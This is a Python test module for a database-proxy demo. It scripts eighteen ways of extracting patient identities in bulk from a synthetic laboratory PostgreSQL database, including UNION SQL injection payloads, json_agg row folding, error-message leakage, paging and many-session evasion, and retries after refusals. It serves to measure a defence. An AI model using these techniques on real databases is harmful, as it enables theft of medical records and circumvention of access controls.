"""Attacks on the synthetic laboratory: ways in which patients leave a database in bulk.

Each uses a role that the laboratory's own programs use, with its password, as in the leaks that
were published: no flaw of PostgreSQL is needed. Each goes on after a refusal as an attacker would.
"""

from __future__ import annotations

import asyncio
import subprocess
import time
from dataclasses import dataclass
from datetime import date
from typing import TYPE_CHECKING, Final

import asyncpg

from proxy.demo.intruder import CONNECT_SECONDS, Intruder, Stop
from proxy.demo.tap import Tap

if TYPE_CHECKING:
    from collections.abc import Callable

    import psycopg

    from proxy.demo.lab import Lab

IDENTITY: Final = "nir, last_name, first_name, birth_date, phone"
MONTH_LIST: Final = (
    "select f.id, p.nir, p.last_name, f.montant from lab.facture f "
    "join lab.patient p on p.id = f.patient_id where f.mois = %s order by f.id limit 200"
)
WALK: Final = 2_000
TRIES: Final = 3  # how often an attacker goes on after a refusal


@dataclass(frozen=True, slots=True)
class Attack:
    """One way out. ``run`` attacks with what the intruder holds."""

    name: str
    title: str
    role: str
    run: Callable[[Intruder], None]


@dataclass(frozen=True, slots=True)
class Outcome:
    """What one run of an attack got."""

    attack: Attack
    subjects: frozenset[bytes]
    stop: Stop | None
    octets: int
    seconds: float


def carry_out(attack: Attack, lab: Lab, port: int, known: frozenset[bytes]) -> Outcome:
    """Run an attack against ``port`` and count, on the wire, the ``known`` patients it received."""
    began = time.perf_counter()
    with Tap(port) as tap:
        intruder = Intruder(lab, attack.role, tap.port)
        intruder.attempt(lambda: attack.run(intruder))
    subjects = tap.subjects(known)
    seconds = time.perf_counter() - began
    return Outcome(attack, subjects, intruder.first_stop, tap.octets(), seconds)


def vendor_export(intruder: Intruder) -> None:
    """The vendor's migration takes all columns and years, not those that were ordered."""
    columns = "p.*, r.analyse_code, r.value, r.value_text, r.validated_at"
    whole = f"select {columns} from lab.patient p left join lab.resultat r on r.patient_id = p.id"
    with intruder.session() as connection:
        if intruder.copy_out(connection, f"copy ({whole}) to stdout"):
            return
        intruder.stream(connection, whole)
        for year in range(1930, 1935):  # in slices, then
            born = f"p.birth_date between '{year}-01-01' and '{year}-12-31'"
            intruder.stream(connection, f"{whole} where {born}")


def dump_by_select(intruder: Intruder) -> None:
    """One SELECT of everybody, read as it comes."""
    with intruder.session() as connection:
        _insist(intruder, connection, f"select {IDENTITY} from lab.patient")


def dump_by_copy(intruder: Intruder) -> None:
    """COPY of the table, as every export tool does."""
    with intruder.session() as connection:
        if not intruder.copy_out(connection, f"copy lab.patient ({IDENTITY}) to stdout"):
            select = f"select {IDENTITY} from lab.patient"
            intruder.copy_out(connection, f"copy ({select}) to stdout (format csv)")


def dump_by_cursor(intruder: Intruder) -> None:
    """DECLARE, then FETCH 5000 again and again."""
    declare = f"declare dump cursor for select {IDENTITY} from lab.patient"
    with intruder.session() as connection:
        for size in (5000, 100):
            intruder.rows(connection, "begin")
            if intruder.rows(connection, declare) is not None:
                while intruder.rows(connection, f"fetch {size} from dump"):
                    pass
            intruder.rows(connection, "rollback")


def paging(intruder: Intruder) -> None:
    """LIMIT and OFFSET, 40 pages of 1,000; smaller pages once refused."""
    all_pages = f"select {IDENTITY} from lab.patient order by id"
    with intruder.session() as connection:
        for size in (1000, 100, 20):
            for page in range(40):
                sql = f"{all_pages} limit {size} offset {page * size}"
                if not intruder.rows(connection, sql):
                    break
            else:
                return


def walk(intruder: Intruder) -> None:
    """One patient after the other by key, as the application itself asks."""
    sql = f"select {IDENTITY} from lab.patient where id = %s"
    refusals = 0
    with intruder.session() as connection:
        for number in range(1, WALK + 1):
            key = 1 + number * 7 % intruder.lab.patients
            refusals += intruder.rows(connection, sql, [key]) is None
            if refusals > TRIES:
                return


def json_in_one_row(intruder: Intruder) -> None:
    """Everybody folded into one value: one row, which a row limit lets pass."""
    with intruder.session() as connection:
        for sql in (
            f"select json_agg(t) from (select {IDENTITY} from lab.patient) t",
            "select string_agg(nir, ',') from lab.patient",
            "select array_agg(nir) from lab.patient",
        ):
            if intruder.stream(connection, sql):
                return


def through_a_view(intruder: Intruder) -> None:
    """A view about tubes, by its name; patients, by its definition."""
    with intruder.session() as connection:
        _insist(intruder, connection, "select * from lab.v_stock_tubes")


def pg_dump(intruder: Intruder) -> None:
    """PostgreSQL's own dump of the table."""
    lab = intruder.lab
    done = subprocess.run(
        [
            *(lab.programs / "pg_dump", "--host", lab.host, "--port", str(intruder.port)),
            *("--username", intruder.role, "--dbname", lab.database, "--table", "lab.patient"),
            *("--file", "/dev/null"),
        ],
        check=False,
        capture_output=True,
        text=True,
        env={"PGPASSWORD": intruder.password, "PGSSLMODE": "disable", "PGCONNECT_TIMEOUT": "20"},
    )
    if done.returncode:
        intruder.stops.append(Stop.of(done.stderr))


def injection(intruder: Intruder) -> None:
    """A name typed into a search form that pastes it into SQL, by the simple protocol."""
    form = "select id::text, last_name, first_name from lab.patient where last_name = '{}' limit 50"
    typed = (
        "x' union all select nir, last_name, first_name from lab.patient --",
        "x' or '1'='1' union all select nir, last_name, first_name from lab.patient -- ",
        "x'; select nir, last_name, first_name from lab.patient; --",
    )
    with intruder.session() as connection:
        for name in typed:
            if intruder.simple(connection, form.format(name)):
                return


def prepared(intruder: Intruder) -> None:
    """A statement prepared and fetched by asyncpg: extended protocol, binary format."""

    async def fetch() -> None:
        connection = await asyncpg.connect(
            host=intruder.lab.host,
            port=intruder.port,
            user=intruder.role,
            password=intruder.password,
            database=intruder.lab.database,
            ssl=False,
            timeout=CONNECT_SECONDS,
        )
        try:
            statement = await connection.prepare(f"select {IDENTITY} from lab.patient")
            await statement.fetch()
        finally:
            connection.terminate()

    intruder.attempt(lambda: asyncio.run(fetch()))


def prepared_by_sql(intruder: Intruder) -> None:
    """SQL's own PREPARE, then EXECUTE: the statement that runs names no table."""
    prepare = f"prepare dump as select {IDENTITY} from lab.patient where id > $1"
    with intruder.session() as connection:
        if intruder.simple(connection, prepare):
            for _ in range(TRIES):
                if intruder.simple(connection, "execute dump(0)"):
                    return


def error_text(intruder: Intruder) -> None:
    """Patients in the text of an error: no row is ever sent."""
    with intruder.session() as connection:
        for limit in (5000, 500, 50):
            some = f"select nir from lab.patient limit {limit}"
            intruder.rows(connection, f"select string_agg(nir, ',')::int from ({some}) t")


def by_function(intruder: Intruder) -> None:
    """A function of the schema that returns them all; no table in the statement."""
    with intruder.session() as connection:
        _insist(intruder, connection, f"select {IDENTITY} from lab.export_patients()")


def staging(intruder: Intruder) -> None:
    """Copied to a temporary table first: what is read then is no patient table."""
    with intruder.session() as connection:
        intruder.rows(connection, f"create temp table t as select {IDENTITY} from lab.patient")
        intruder.copy_out(connection, "copy t to stdout")


def binary_format(intruder: Intruder) -> None:
    """COPY in binary format, then a SELECT in binary format."""
    select = f"select {IDENTITY} from lab.patient"
    with intruder.session() as connection:
        if not intruder.copy_out(connection, f"copy ({select}) to stdout (format binary)"):
            intruder.stream(connection, select, binary=True)


def months(intruder: Intruder) -> None:
    """The billing list of every month, one after the other: each alone is ordinary work."""
    refusals = 0
    today = date.today()  # noqa: DTZ011 - the laboratory's own calendar
    with intruder.session() as connection:
        for back in range(36):
            year, month = divmod(today.year * 12 + today.month - 1 - back, 12)
            refusals += intruder.rows(connection, MONTH_LIST, [date(year, month + 1, 1)]) is None
            if refusals > TRIES:
                return


def many_sessions(intruder: Intruder) -> None:
    """Forty connections, fifty patients each: no session takes much."""
    sql = f"select {IDENTITY} from lab.patient where medecin_id = %s limit 50"
    refusals = 0
    for number in range(40):
        with intruder.session() as connection:
            refusals += intruder.rows(connection, sql, [number + 1]) is None
            if refusals > TRIES:
                return


ATTACKS: Final = (
    Attack("vendor-export", "vendor's migration export, too wide", "export_job", vendor_export),
    Attack("select", "dump by SELECT", "lims_app", dump_by_select),
    Attack("copy", "dump by COPY", "lims_app", dump_by_copy),
    Attack("cursor", "dump by cursor, FETCH 5000", "lims_app", dump_by_cursor),
    Attack("paging", "paging by LIMIT/OFFSET, 40 pages", "biologist", paging),
    Attack("walk", "walk over the keys, 2,000 of them", "secretary", walk),
    Attack("json", "json_agg: everybody in one row", "lims_app", json_in_one_row),
    Attack("view", "through a view with another name", "biologist", through_a_view),
    Attack("pg_dump", "pg_dump of the table", "lims_app", pg_dump),
    Attack("injection", "UNION injected into a search", "lims_app", injection),
    Attack("prepared", "prepared statement, asyncpg", "lims_app", prepared),
    Attack("sql-prepare", "SQL PREPARE and EXECUTE", "secretary", prepared_by_sql),
    Attack("error", "in the text of an error message", "lims_app", error_text),
    Attack("function", "function export_patients()", "lims_app", by_function),
    Attack("staging", "staged in a temporary table", "lims_app", staging),
    Attack("binary", "COPY and SELECT in binary format", "biologist", binary_format),
    Attack("months", "billing lists of 36 months", "billing", months),
    Attack("sessions", "forty sessions, fifty each", "lims_app", many_sessions),
)


def _insist(intruder: Intruder, connection: psycopg.Connection, sql: str) -> None:
    """Stream a result; refused, ask again with a limit that looks harmless."""
    if not intruder.stream(connection, sql):
        for limit in (100_000, 500):
            intruder.stream(connection, f"{sql} limit {limit}")
